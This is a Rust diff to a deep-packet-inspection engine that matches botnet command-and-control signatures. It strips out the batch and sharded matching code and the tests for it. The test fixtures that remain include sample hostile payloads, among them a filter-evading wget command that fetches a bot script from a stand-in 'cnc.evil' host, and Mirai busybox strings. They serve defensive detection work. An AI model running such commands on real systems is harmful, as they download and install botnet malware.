@@ -87,12 +87,6 @@ pub struct PlaintextDpi {
     automaton: AcAutomaton,
 }
 
-impl Default for PlaintextDpi {
-    fn default() -> Self {
-        PlaintextDpi::new(Vec::new())
-    }
-}
-
 impl PlaintextDpi {
     /// Creates an engine with the given rules, compiling the automaton.
     pub fn new(rules: Vec<Rule>) -> Self {
@@ -105,28 +99,9 @@ impl PlaintextDpi {
         }
     }
 
-    /// The compiled rule set.
-    pub fn rules(&self) -> &[Rule] {
-        &self.rules
-    }
-
     /// Scans a plaintext payload in one automaton pass.
     pub fn inspect(&self, payload: &[u8]) -> Vec<DpiMatch> {
         matches_from_firsts(&self.names, &self.automaton.find_first_per_pattern(payload))
-    }
-
-    /// Scans a batch of payloads, reusing the per-pattern scratch buffer
-    /// across payloads.
-    pub fn inspect_batch(&self, payloads: &[&[u8]]) -> Vec<Vec<DpiMatch>> {
-        let mut scratch = Vec::new();
-        payloads
-            .iter()
-            .map(|payload| {
-                self.automaton
-                    .find_first_per_pattern_into(payload, &mut scratch);
-                matches_from_firsts(&self.names, &scratch)
-            })
-            .collect()
     }
 
     /// The original per-rule window scan, O(rules × payload). Kept for
@@ -229,19 +204,6 @@ impl EncryptedDpi {
         &self.session
     }
 
-    fn match_into(&self, tokens: &[Token], scratch: &mut Vec<Option<usize>>) -> Vec<DpiMatch> {
-        self.session.index.find_first_per_rule_into(tokens, scratch);
-        matches_from_firsts(&self.session.names, scratch)
-    }
-
-    /// Pure matching over one traffic token stream: no counters, no
-    /// evidence. Safe to call from multiple threads (`&self`), which is
-    /// what the sharded batch path does.
-    pub fn match_stream(&self, tokens: &[Token]) -> Vec<DpiMatch> {
-        let mut scratch = Vec::new();
-        self.match_into(tokens, &mut scratch)
-    }
-
     /// The per-rule token scan the index replaced, O(rules × tokens).
     /// Kept for A/B benchmarking and as the equivalence oracle in tests.
     pub fn match_stream_naive(&self, tokens: &[Token]) -> Vec<DpiMatch> {
@@ -287,65 +249,11 @@ impl EncryptedDpi {
         firsts: &mut Vec<Option<usize>>,
         now: SimTime,
     ) -> Vec<DpiMatch> {
-        let out = self.match_into(tokens, firsts);
+        self.session.index.find_first_per_rule_into(tokens, firsts);
+        let out = matches_from_firsts(&self.session.names, firsts);
         self.record(device, &out, now);
         out
     }
-
-    /// Inspects a batch of token streams from one device. Counters and
-    /// evidence behave exactly as if [`EncryptedDpi::inspect`] were called
-    /// per stream.
-    pub fn inspect_batch(
-        &mut self,
-        device: &str,
-        streams: &[Vec<Token>],
-        now: SimTime,
-    ) -> Vec<Vec<DpiMatch>> {
-        let mut firsts = Vec::new();
-        streams
-            .iter()
-            .map(|tokens| self.inspect(device, tokens, &mut firsts, now))
-            .collect()
-    }
-}
-
-/// Matches a batch of token streams across `shards` worker threads
-/// (crossbeam scoped threads over contiguous chunks). Pure matching —
-/// counters and evidence stay with the caller, so the engine is shared
-/// immutably across shards. Results keep the input order.
-pub fn match_batch_sharded(
-    dpi: &EncryptedDpi,
-    streams: &[Vec<Token>],
-    shards: usize,
-) -> Vec<Vec<DpiMatch>> {
-    let shards = shards.max(1).min(streams.len().max(1));
-    if shards <= 1 {
-        let mut scratch = Vec::new();
-        return streams
-            .iter()
-            .map(|tokens| dpi.match_into(tokens, &mut scratch))
-            .collect();
-    }
-    let chunk = streams.len().div_ceil(shards);
-    crossbeam::thread::scope(|s| {
-        let handles: Vec<_> = streams
-            .chunks(chunk)
-            .map(|chunk| {
-                s.spawn(move || {
-                    let mut scratch = Vec::new();
-                    chunk
-                        .iter()
-                        .map(|tokens| dpi.match_into(tokens, &mut scratch))
-                        .collect::<Vec<_>>()
-                })
-            })
-            .collect();
-        handles
-            .into_iter()
-            .flat_map(|h| h.join().expect("shard panicked"))
-            .collect()
-    })
-    .expect("shard scope panicked")
 }
 
 /// Builds the default rule set from the botnet C&C signatures.
@@ -421,20 +329,6 @@ mod tests {
     }
 
     #[test]
-    fn plaintext_batch_matches_per_payload_inspection() {
-        let dpi = PlaintextDpi::new(rules());
-        let payloads: Vec<&[u8]> = vec![
-            b"benign",
-            b"/bin/busybox MIRAI go",
-            b"POST /cdn-cgi/ HTTP beacon",
-        ];
-        let batched = dpi.inspect_batch(&payloads);
-        for (payload, batch) in payloads.iter().zip(&batched) {
-            assert_eq!(&dpi.inspect(payload), batch);
-        }
-    }
-
-    #[test]
     fn encrypted_dpi_matches_without_plaintext() {
         // The endpoint tokenizes its (encrypted) payload; the rule
         // authority compiles rules under the same session tokenizer.
@@ -482,7 +376,8 @@ mod tests {
     #[test]
     fn indexed_and_naive_encrypted_engines_agree() {
         let endpoint = Tokenizer::new(b"s").unwrap();
-        let dpi = middlebox(&endpoint);
+        let mut dpi = middlebox(&endpoint);
+        let mut firsts = Vec::new();
         for payload in [
             &b"wget${IFS}http://cnc.evil/bot.sh"[..],
             b"prefix /bin/busybox MIRAI suffix",
@@ -491,41 +386,11 @@ mod tests {
         ] {
             let tokens = endpoint.tokenize(payload);
             assert_eq!(
-                dpi.match_stream(&tokens),
+                dpi.inspect("d", &tokens, &mut firsts, SimTime::ZERO),
                 dpi.match_stream_naive(&tokens),
                 "divergence on {payload:?}"
             );
         }
-    }
-
-    #[test]
-    fn batch_inspection_matches_per_stream_inspection() {
-        let payloads: Vec<&[u8]> = vec![
-            b"benign telemetry",
-            b"attack: /bin/busybox MIRAI scanner start",
-            b"POST /cdn-cgi/ HTTP beacon",
-            b"also clean",
-        ];
-        let endpoint = Tokenizer::new(b"s").unwrap();
-        let streams: Vec<Vec<Token>> = payloads.iter().map(|p| endpoint.tokenize(p)).collect();
-
-        let mut single = middlebox(&endpoint);
-        let mut firsts = Vec::new();
-        let expected: Vec<Vec<DpiMatch>> = streams
-            .iter()
-            .map(|t| single.inspect("d", t, &mut firsts, SimTime::ZERO))
-            .collect();
-
-        let mut batched = middlebox(&endpoint);
-        assert_eq!(
-            batched.inspect_batch("d", &streams, SimTime::ZERO),
-            expected
-        );
-        assert_eq!(batched.stats, single.stats);
-
-        // Sharded matching (pure) returns the same matches in order.
-        assert_eq!(match_batch_sharded(&batched, &streams, 3), expected);
-        assert_eq!(match_batch_sharded(&batched, &streams, 16), expected);
     }
 
     #[test]
